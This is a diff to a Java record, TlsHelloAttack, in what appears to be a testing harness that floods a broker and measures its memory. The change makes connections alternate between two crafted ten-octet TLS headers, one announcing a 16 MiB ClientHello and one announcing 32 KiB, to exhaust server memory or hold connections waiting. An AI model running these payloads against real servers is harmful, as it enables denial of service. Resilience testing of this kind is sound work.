@@ -5,16 +5,22 @@ import java.net.InetAddress;
 import java.util.ArrayList;
 import java.util.HexFormat;
 import java.util.List;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.stream.Stream;
 
 /**
- * Connections that send ten octets: the header of a TLS record and that of a ClientHello of 16 MiB
- * (RFC 8446 §4: its length has 24 bits). A server that makes room for what is announced pays 16 MiB
- * for each (CVE-2026-45416, CVE-2026-75596).
+ * Connections that send ten octets: the header of a TLS record and that of a ClientHello (RFC 8446
+ * §4: its length has 24 bits). Half announce 16 MiB: a server that makes room for what is announced
+ * pays that for each (CVE-2026-45416, CVE-2026-75596). Half announce 32 KiB, which a server has to
+ * wait for.
  */
 record TlsHelloAttack(Target target, Plan plan) {
 
-  /** A whole handshake record of five octets; they begin a ClientHello of 16,777,215. */
-  private static final byte[] ANNOUNCEMENT = HexFormat.of().parseHex("160301000501ffffff03");
+  /** Whole handshake records of five octets; they begin a ClientHello of 16,777,215 and 32,768. */
+  private static final List<byte[]> ANNOUNCEMENTS =
+      Stream.of("160301000501ffffff03", "16030100050100800003")
+          .map(HexFormat.of()::parseHex)
+          .toList();
 
   List<AttackFigure> run() throws Exception {
     ProcessMemory memory = new ProcessMemory(target.broker());
@@ -34,9 +40,11 @@ record TlsHelloAttack(Target target, Plan plan) {
   private void attack(String name, List<InetAddress> from, List<AttackFigure> figures)
       throws Exception {
     Client device = target.device();
+    AtomicInteger turn = new AtomicInteger();
     Flood.Opening opening =
         plain -> {
-          plain.getOutputStream().write(ANNOUNCEMENT);
+          int now = turn.getAndIncrement() % ANNOUNCEMENTS.size();
+          plain.getOutputStream().write(ANNOUNCEMENTS.get(now));
           return plain;
         };
     try (Flood flood =
